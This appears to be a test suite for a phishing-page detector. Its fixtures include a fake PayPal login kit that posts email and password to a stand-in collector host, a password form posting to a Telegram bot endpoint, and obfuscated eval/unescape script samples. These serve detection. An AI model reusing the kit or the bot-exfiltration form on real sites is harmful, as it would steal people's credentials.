import assert from 'node:assert/strict'
import { test } from 'node:test'
import { phishingCaps } from './caps.ts'
import { obfuscationOf } from './page-signals.ts'
import { openPage, type PageContext } from './page.ts'

function judge(url: string, html: string | Uint8Array, context: PageContext = {}, size = 11) {
  const page = openPage(url, context)
  const bytes = typeof html === 'string' ? Buffer.from(html) : html
  for (let at = 0; at < bytes.length; at += size) page.push(bytes.subarray(at, at + size))
  return page.end()
}
const stranger = 'https://quiet-harbour.example.org/a'
const kit = (target: string) =>
  `<html><head><title>PayPal: Log in</title><link rel=icon href="https://www.paypalobjects.com/x.ico"></head><body oncontextmenu="return false">
<a href="#">Help</a><a href="#">Contact</a><a href="">Privacy</a><a href="#">Legal</a>
<form method=post action="${target}"><input type=email><input type=password></form></body></html>`

test('a kit on an innocent host is found by its page, however it is cut into chunks', () => {
  for (const size of [1, 7, 100_000]) {
    const { verdict, reason } = judge(stranger, kit('https://collect.example.net/p.php'), {}, size)
    assert.equal(verdict, 'phishing', reason)
    assert.match(reason, /title names "paypal"|collect\.example\.net|borrows pictures/)
  }
})

test("the same page on the brand's own domain is clean", () => {
  assert.equal(judge('https://www.paypal.com/signin', kit('https://www.paypal.com/signin')).verdict, 'clean')
})

test('what is typed and sent to a bot or a bare address counts more than another site', () => {
  const [plain, elsewhere, bot] = [
    '/login',
    'https://other.example.net/x',
    'https://api.telegram.org/bot1:a/sendMessage',
  ].map((target) => judge(stranger, `<form action="${target}"><input type=password></form>`).score)
  assert.ok((plain ?? 1) < (elsewhere ?? 0) && (elsewhere ?? 1) < (bot ?? 0))
})

test('an ordinary sign-in page of an ordinary site is clean', () => {
  const html =
    '<title>Quiet Harbour: members</title><a href="/">Home</a><a href="/about">About</a><form action="/login" method=post><input name=user><input type=password></form>'
  assert.equal(judge('https://quiet-harbour.example.org/login', html).verdict, 'clean')
})

test('an article about a brand, with no field to fill in, is clean', () => {
  const html = '<title>How PayPal was founded</title><p>PayPal, Amazon and Microsoft</p><a href="/more">more</a>'
  assert.equal(judge('https://history-blog.example.org/2024/05/paypal', html).verdict, 'clean')
})

test('a title spelt with letters of another script is seen through', () => {
  const { reason } = judge(stranger, '<title>РаyРаl login</title><form><input type=password></form>')
  assert.match(reason, /look-alike letters/)
})

test('a text field drawn as dots counts as a password field; hidden fields do not', () => {
  const dots = judge(stranger, '<form><input style="-webkit-text-security: disc"></form>').score
  const hidden = judge(stranger, '<form><input type=hidden name=password></form>').score
  assert.ok(dots > hidden)
})

test('what is known of the certificate and of the tenant moves the score, and unknown moves nothing', () => {
  const html = '<form><input type=password></form>'
  const { score } = judge(stranger, html)
  assert.ok(
    judge(stranger, html, { isFirstSeenByTenant: true, certificateAgeDays: 1, certificateIssuer: "Let's Encrypt" })
      .score > score,
  )
  assert.ok(judge(stranger, html, { isFirstSeenByTenant: false, certificateAgeDays: 400 }).score < score)
})

test('obfuscated scripts are told from minified ones', () => {
  assert.match(obfuscationOf('document.write(unescape("%3Cform%3E"))'), /coded text/)
  assert.match(obfuscationOf('eval(atob("YWxlcnQ="))'), /coded text/)
  assert.equal(obfuscationOf('!function(e,t){"use strict";var n=e.document;t.exports=n}(window,module);'), '')
})

test('a page beyond the cap is judged by its beginning and says so; binary rubbish is judged too', () => {
  const long = judge(stranger, `<form><input type=password></form>${' '.repeat(phishingCaps.maxPageChars)}`, {}, 65_536)
  assert.equal(long.isWhole, false)
  assert.equal(judge(stranger, Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 89) & 255))).verdict, 'clean')
  assert.equal(judge('not a url', kit('/')).verdict, 'unreadable')
})
